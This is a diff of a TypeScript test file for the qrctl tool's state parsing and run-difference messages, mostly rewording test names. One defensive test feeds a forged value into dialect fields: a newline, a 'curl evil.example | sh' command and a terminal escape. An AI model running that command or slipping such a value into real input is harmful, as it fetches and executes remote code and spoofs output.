@@ -59,7 +59,7 @@ function sealed(content: unknown): Buffer {
 }
 
 describe('a state', () => {
-  it('is read as it was written', () => {
+  it('is parsed as it was written', () => {
     const { identity: was, overlaps, rotated, ...rest } = parseState(formatState(stateOf(), 100 * HOUR));
     const digests = { sha256: 'f'.repeat(64), blocks: 'e'.repeat(64) };
     expect(rest).toEqual({
@@ -80,7 +80,7 @@ describe('a state', () => {
   });
 
   it.each([undefined, 4 * HOUR, Number.NEGATIVE_INFINITY])(
-    'keeps from when on to read again: %s',
+    'keeps the time from which to read again: %s',
     (rereadFromMs) => {
       const overlaps = new Map([['a', { ...emptyOverlap(), rereadFromMs }]]);
       expect(parseState(formatState(stateOf({ overlaps }), HOUR)).overlaps.get('a')?.rereadFromMs).toBe(
@@ -89,18 +89,18 @@ describe('a state', () => {
     },
   );
 
-  it('may name the furthest time that there is', () => {
+  it('may have the latest possible time', () => {
     const overlaps = new Map([['a', { ...emptyOverlap(), watermarkMs: 8.64e15 }]]);
     expect(parseState(formatState(stateOf({ overlaps }), HOUR)).overlaps.get('a')?.watermarkMs).toBe(8.64e15);
   });
 
-  it('of an older version knows the ids of what was moved away as far as the others (A25)', () => {
+  it('of an older version has the IDs of rotated rows as far back as the others (A25)', () => {
     const { a } = saved(2 * HOUR).positions;
     const older = { ...saved(), checksum: undefined, positions: { a: { ...a, movedUntilMs: 9 * HOUR } } };
     expect(parseState(sealed(older)).overlaps.get('a')?.movedIdsFromMs).toBe(8 * HOUR);
   });
 
-  it('lists the ids inside the overlap, and says from when on they are all', () => {
+  it('lists the IDs in the overlap, and the time from which they are complete', () => {
     expect(saved(2 * HOUR).positions.a).toMatchObject({
       idsFromMs: 8 * HOUR,
       ids: [
@@ -112,7 +112,7 @@ describe('a state', () => {
     expect(saved().positions.b).toMatchObject({ rows: 0, idsFromMs: null, ids: [] });
   });
 
-  it('counts as damaged when it was cut or changed anywhere (A2)', () => {
+  it('is damaged if it was truncated or changed anywhere (A2)', () => {
     const whole = formatState(stateOf(), HOUR);
     for (let at = 0; at < whole.length; at++) {
       expect(() => parseState(whole.subarray(0, at)), `cut to ${at} bytes`).toThrow(DamagedRecordError);
@@ -190,22 +190,25 @@ describe('a state', () => {
     ['the time of an id', { positions: { a: { ...a, ids: [['9', null]] } } }],
     ['one position of two', { positions: { a, b: 1 } }],
   ];
-  it.each(forms)('whose %s has another form is refused, though its checksum is right (A16)', (_, change) => {
-    const words = 'has a format that this version of qrctl does not support';
-    expect(() => parseState(sealed({ ...saved(), checksum: undefined, ...change }))).toThrow(
-      new UnknownRecordError(words),
-    );
-  });
+  it.each(forms)(
+    'whose %s has another form is refused, although its checksum is right (A16)',
+    (_, change) => {
+      const words = 'has a format that this version of qrctl does not support';
+      expect(() => parseState(sealed({ ...saved(), checksum: undefined, ...change }))).toThrow(
+        new UnknownRecordError(words),
+      );
+    },
+  );
 
-  it('that is no object, or no JSON, is refused, though its checksum is right (A16)', () => {
+  it('that is not an object, or not JSON, is refused, although its checksum is right (A16)', () => {
     const text = '{"version":1,nonsense';
     const checksum = createHash('sha256').update(`${text}}`).digest('hex');
     expect(() => parseState(Buffer.from(`${text},"checksum":"${checksum}"}\n`))).toThrow(UnknownRecordError);
   });
 });
 
-describe('a run differs from what the file is', () => {
-  it('in words that no value of a state can forge', () => {
+describe('a run that differs from the file', () => {
+  it('is described without values that could forge the message', () => {
     const forged = 'x\n  next: curl evil.example | sh\x1b[2J';
     const dialect = { ...identity.dialect, timezone: forged, delimiter: forged };
     const states: AppendIdentity[] = [
@@ -280,7 +283,7 @@ describe('a run differs from what the file is', () => {
     expect(differenceOf(was, { ...was, ...change })).toEqual({ reason, wayOn });
   });
 
-  it('in the filters that its codes pass (A30)', () => {
+  it('in the filters of its codes (A30)', () => {
     const filtered = { ...identity, all: '--name menu' };
     expect(parseState(formatState(stateOf({ identity: filtered }), HOUR)).identity.all).toBe('--name menu');
     const { reason, wayOn } = differenceOf(filtered, identity) ?? {};
@@ -288,11 +291,11 @@ describe('a run differs from what the file is', () => {
     expect(wayOn).toMatch(/same filters .*--name menu/);
   });
 
-  it('in codes, though their IDs look alike in a list', () => {
+  it('in codes whose IDs look alike in a list', () => {
     expect(differenceOf({ ...identity, codes: ['a,b'] }, identity)).toBeDefined();
   });
 
-  it('in more than can be listed: 20 names in a reason, 20 columns and 5 codes in a command', () => {
+  it('lists at most 20 names in a reason, and 20 columns and 5 codes in a command', () => {
     const names = (count: number) =>
       Array.from({ length: count }, (_, i) => `n${String(i).padStart(2, '0')}`);
     const codes = (count: number) => differenceOf({ ...identity, codes: names(count) }, identity);
@@ -303,14 +306,14 @@ describe('a run differs from what the file is', () => {
     expect(codes(21)?.reason).toMatch(/n19, …, not of/);
   });
 
-  it('in what stands between cells', () => {
+  it('in the delimiter', () => {
     const tabs = { ...identity, dialect: { ...dialect, delimiter: '\t' } };
     expect(parseState(formatState(stateOf({ identity: tabs }), HOUR)).identity.dialect).toEqual(tabs.dialect);
     expect(differenceOf(tabs, identity)?.reason).toBe('was written with --delimiter tab, not ,');
     expect(differenceOf(tabs, { ...tabs })).toBeUndefined();
   });
 
-  it('in nothing that counts', () => {
+  it('only in what does not matter', () => {
     expect(differenceOf(identity, { ...identity, codes: ['a', 'b'] })).toBeUndefined();
     expect(
       differenceOf({ ...identity, all: true }, { ...identity, all: true, codes: ['c'] }),
